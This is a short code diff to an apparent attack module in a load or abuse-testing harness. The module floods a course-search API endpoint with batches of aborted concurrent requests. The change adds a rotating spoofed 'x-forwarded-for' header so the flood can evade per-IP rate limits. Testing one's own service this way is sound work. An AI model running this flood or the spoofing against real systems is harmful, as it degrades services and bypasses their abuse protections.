@@ -15,9 +15,10 @@ export const attack: Attack = {
     while (performance.now() < endsAt) {
       const gone = new AbortController()
       const searches = Array.from({ length: AT_ONCE }, () =>
-        fetch(`${url}/api/v1/courses?search=${encodeURIComponent(`для ${sent++}`)}`, { signal: gone.signal }).catch(
-          () => {}
-        )
+        fetch(`${url}/api/v1/courses?search=${encodeURIComponent(`для ${sent++}`)}`, {
+          signal: gone.signal,
+          headers: { 'x-forwarded-for': `198.51.100.${sent % 250}` }
+        }).catch(() => {})
       )
       await sleep(PATIENCE_MS)
       gone.abort()
